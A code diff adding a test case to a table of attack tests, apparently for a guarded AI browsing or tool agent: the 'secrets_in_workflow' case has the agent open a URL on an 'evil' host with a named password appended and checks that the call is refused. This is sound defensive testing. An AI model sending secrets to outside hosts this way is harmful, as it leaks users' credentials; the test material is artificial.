@@ -78,6 +78,18 @@ var _ = add(
 		},
 	},
 	attack{
+		name: "secrets_in_workflow", about: "an argument of a workflow names a secret, and a step puts it into an address", with: guarded, on: sessions,
+		run: func(c *client) {
+			s := newBankSite(c)
+			c.ok("navigate", args{"url": s.bankURL("/other")})
+			got := c.call("opens_address", args{"to": s.url("evil", "/?") + namedPassword})
+			if !got.refused || !strings.Contains(got.text, "takes no secret") {
+				c.Errorf("%+v", got)
+			}
+			s.keeps(c)
+		},
+	},
+	attack{
 		name: "secrets_split", about: "a reference is split over two fields; the page gets the parts as they are", with: guarded, on: sessions,
 		run: func(c *client) {
 			s := newBankSite(c)
